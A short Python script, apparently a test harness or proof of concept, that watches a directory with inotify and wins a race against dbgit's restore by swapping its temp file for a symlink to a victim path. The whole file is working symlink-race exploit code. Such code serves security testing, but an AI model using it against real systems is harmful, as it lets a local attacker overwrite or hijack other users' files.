# swap-temp.py DIR VICTIM: a local attacker with write access to DIR. As
# soon as a restore's temp file (".<name>.dbgit-restore-...") appears there
# (inotify), it is replaced by a symlink to VICTIM. Prints "ready" once
# watching; exits after the first swap.
import ctypes, os, struct, sys

d, victim = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
if fd < 0 or libc.inotify_add_watch(fd, d.encode(), 0x100) < 0:  # IN_CREATE
    sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
print("ready", flush=True)
while True:
    buf = os.read(fd, 4096)
    i = 0
    while i < len(buf):
        _, _, _, ln = struct.unpack_from("iIII", buf, i)
        name = buf[i + 16:i + 16 + ln].rstrip(b"\0").decode()
        i += 16 + ln
        if ".dbgit-restore-" in name and not name.endswith(("-journal", "-wal", "-shm")):
            link = os.path.join(d, ".swap")
            os.symlink(victim, link)
            os.rename(link, os.path.join(d, name))
            sys.exit(0)
